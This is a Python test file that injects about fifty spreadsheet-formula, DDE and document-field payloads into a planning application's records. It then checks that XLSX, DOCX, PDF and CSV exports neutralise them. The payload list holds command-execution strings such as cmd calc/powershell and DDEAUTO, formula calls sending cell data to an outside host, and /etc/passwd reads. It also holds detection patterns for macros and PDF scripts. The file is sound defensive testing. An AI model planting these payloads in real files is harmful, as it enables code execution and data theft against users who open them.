"""Fifty payloads in every export: none is a formula, a field, a link or a script where the file is opened."""

import csv
import io
import re
import zipfile
from typing import Any

import pytest

from long_plans import long_plan
from made_commitments import load_units, make_plan
from yibiao.core.serialise import to_dict
from yibiao.hub.access.actors import command
from yibiao.hub.commitments.exports import all_tables, overview_table, unit_table
from yibiao.hub.orgs.exchange.people import export_people
from yibiao.hub.orgs.exchange.units import export_units
from yibiao.hub.orgs.models import GroupRecord, PersonRecord, PostRecord, UnitRecord
from yibiao.hub.plans.models import PlanRecord
from yibiao.hub.plans.publishing import publish

pytestmark = pytest.mark.django_db
OPERATOR = command("test")

_BODIES = (
    "1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1,\"点\")", "WEBSERVICE(\"http://x.example/\"&A1)",
    "SUM(1,1)*cmd|'/C powershell'!A0", "DDE(\"cmd\",\"/C calc\",\"x\")", "IMPORTXML(\"http://x.example\",\"//a\")",
    "IMAGE(\"http://x.example/a.png\")", "INDIRECT(\"A1\")", "CALL(\"a.dll\",\"b\",\"J\")",
)  # fmt: skip
_LEADS = ("=", "+", "-", "@")
PAYLOADS = (
    *(lead + body for lead in _LEADS for body in _BODIES),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＠SUM(1)", "'=1+1", '"=1+1', "_x003D_1+1", "{=1+1}", ";=1+1",
    "DDEAUTO c:\\\\windows\\\\calc.exe", "INCLUDETEXT \"http://x.example\"", "<f>1+1</f>", "]]><f>1</f>", "&#61;1+1",
    "<w:instrText>DDEAUTO</w:instrText>", "<si><t>x</t></si>", "http://x.example/", "file:///etc/passwd", "mailto:a@b.cn",
    "#import \"x\"", "#raw(read(\"/etc/passwd\"))", "$1+1$", "*a*_b_`c`", "\\#read(\"/etc/passwd\")",
)  # fmt: skip
ACTIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# What pages number themselves by.
FIELDS = {"PAGE", "NUMPAGES"}


def test_there_are_fifty() -> None:
    assert len(set(PAYLOADS)) >= 50


def check_xlsx(data: bytes) -> str:
    """Check a workbook; return the text of its cells."""
    said = ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert not re.search(r"external|query|connection|vba|macro|activeX|embed|ctrlProp", name, re.I), name
            text = archive.read(name).decode()
            if name.startswith("xl/worksheets/") and not name.endswith(".rels"):
                assert not re.search(r"<f[ >]|<hyperlink|<oleObject|<legacyDrawing", text), name
                said += text
            if name.endswith(".rels"):
                assert "TargetMode" not in text, name
            said += text if "sharedStrings" in name else ""
    return said


def check_docx(data: bytes) -> str:
    """Check a document; return its text."""
    said = ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert not re.search(r"vba|embeddings|activeX|afchunk", name, re.I), name
            text = archive.read(name).decode()
            codes = re.findall(r"<w:instrText[^>]*>([^<]*)<", text) + re.findall(r'w:instr="([^"]*)"', text)
            assert {code.split()[0] for code in codes} <= FIELDS, name
            assert "<w:hyperlink" not in text
            assert 'TargetMode="External"' not in text
            said += text
    return said


def check_pdf(data: bytes) -> str:
    """Check a print; it has neither scripts nor links nor files in it."""
    for mark in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/EmbeddedFile", b"/OpenAction", b"/SubmitForm"):
        assert mark not in data, mark
    return ""


def check_csv(data: bytes) -> str:
    """Check a table of text as spreadsheets read it."""
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(ACTIVE)]
    return "\n".join(cells)


CHECKS = {"xlsx": check_xlsx, "docx": check_docx, "pdf": check_pdf, "csv": check_csv}


@pytest.fixture
def plan(db: None) -> PlanRecord:
    """Return a published plan whose tasks are called by the payloads, of units that are too."""
    units = load_units()
    made = make_plan(long_plan(len(PAYLOADS)), units["keji"])
    values: Any = to_dict(long_plan(len(PAYLOADS)), with_text=True)
    for task, payload in zip(values["tasks"], PAYLOADS, strict=False):
        task["title"] = payload
        for measure in task["measures"]:
            measure["text"] = payload
    values["document"]["plan_title"] = PAYLOADS[2]
    made.compiled = made.effective = values
    made.title = PAYLOADS[1]
    made.save()
    publish(OPERATOR, made, PAYLOADS[0])
    UnitRecord.objects.filter(code="hongshan").update(name=PAYLOADS[1])
    return made


@pytest.mark.parametrize("fmt", ["xlsx", "docx", "pdf"])
@pytest.mark.parametrize("form", ["issued", "dispatch"])
def test_the_table_of_a_unit(plan: PlanRecord, form: str, fmt: str) -> None:
    unit = UnitRecord.objects.get(code="wuchang")
    made = unit_table(OPERATOR, unit, form, fmt, plan)
    said = CHECKS[fmt](made.data)
    if fmt != "pdf":
        assert said.count("calc") > 1, "the payloads are not in the table"


def test_a_unit_that_is_called_so(plan: PlanRecord) -> None:
    unit = UnitRecord.objects.get(code="hongshan")
    for fmt in ("xlsx", "docx"):
        made = unit_table(OPERATOR, unit, "issued", fmt, plan)
        assert "calc" in CHECKS[fmt](made.data)
        assert not re.search(r'[/\\:*?"<>|\x00-\x1f]', made.name)


def test_the_overview_and_all_tables(plan: PlanRecord) -> None:
    assert "calc" in check_xlsx(overview_table(OPERATOR, plan).data)
    made = all_tables(OPERATOR, plan, ("issued",), ("xlsx", "docx"))
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        assert len(archive.namelist()) > 10
        for name in archive.namelist():
            assert not name.startswith("/")
            assert not {"..", "~"} & set(name.split("/"))
            assert not re.search(r'[\\:*?"<>|\x00-\x1f]', name)
            CHECKS[name.rpartition(".")[2]](archive.read(name))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lists_of_units_and_people(db: None, fmt: str) -> None:
    root = UnitRecord.objects.create(code="city", name="市", kind="region", path="city/")
    for place, payload in enumerate(PAYLOADS):
        code = f"u{place}"
        unit = UnitRecord.objects.create(code=code, name=payload, kind="department", parent=root, path=f"city/{code}/")
        PersonRecord.objects.create_person(f"p{place}", payload, phone=payload[:20], email=payload[:20])
        PostRecord.objects.create(unit=unit, kind="clerk", title=payload[:60])
    GroupRecord.objects.create(names=list(PAYLOADS))
    for data in (export_units(OPERATOR, fmt), export_people(OPERATOR, fmt)):
        assert CHECKS[fmt](data).count("calc") >= 9
